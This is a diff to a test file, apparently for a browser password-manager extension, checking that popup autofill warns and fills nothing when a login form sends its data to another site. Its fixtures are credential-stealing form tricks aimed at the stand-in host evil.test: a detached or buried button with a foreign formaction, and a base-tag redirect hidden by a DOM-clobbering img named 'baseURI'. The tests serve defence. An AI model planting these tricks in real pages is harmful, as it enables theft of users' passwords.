@@ -278,10 +278,25 @@ describe('attack', () => {
     await expect.poll(values).toEqual(filled);
   });
 
-  test('form action to another site, by a button: the popup’s filling is asked about, too', async () => {
-    await open(
+  test.each([
+    [
+      'a button',
       '<form><input name="user"><input type="password"><button formaction="http://www.example.com/plain">Log in</button></form>',
-    );
+    ],
+    [
+      'a button elsewhere in the page',
+      '<form id="own"><input name="user"><input type="password"><button>Log in</button></form><button form="own" formaction="https://evil.test/take">Go on</button>',
+    ],
+    [
+      'a button after many others',
+      `<form><input name="user"><input type="password">${'<button>Log in</button>'.repeat(20)}<button formaction="https://evil.test/take">Log in</button></form>`,
+    ],
+    [
+      'another base of the page, which an element of that name hides',
+      '<base href="https://evil.test/"><img name="baseURI" alt=""><form action="take"><input name="user"><input type="password"><button>Log in</button></form>',
+    ],
+  ])('form action to another site, by %s: the popup’s filling is asked about, too', async (_, body) => {
+    await open(body);
     await extension.fillByPopup();
     const warning = await extension.menu();
     expect((await values()).join('')).toBe('');
